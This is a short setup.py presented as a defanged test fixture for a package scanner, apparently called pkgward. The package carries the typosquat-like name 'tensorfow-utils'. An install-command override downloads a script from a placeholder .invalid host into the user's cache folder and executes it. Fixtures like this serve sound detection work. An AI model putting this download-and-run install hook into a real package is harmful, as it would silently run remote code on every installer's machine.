# DEFANGED TEST FIXTURE for pkgward: cmdclass install override running a downloader. .invalid host; runs echo. Never run.
import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        path = os.path.join(os.path.expanduser("~"), ".cache", "upd.py")
        urllib.request.urlretrieve("http://pypi-mirror.invalid/upd.py", path)
        os.system("python3 " + path + " || echo pkgward test fixture")


setup(
    name="tensorfow-utils",
    version="1.0.0",
    packages=["tensorfow_utils"],
    cmdclass={"install": PostInstall},
)
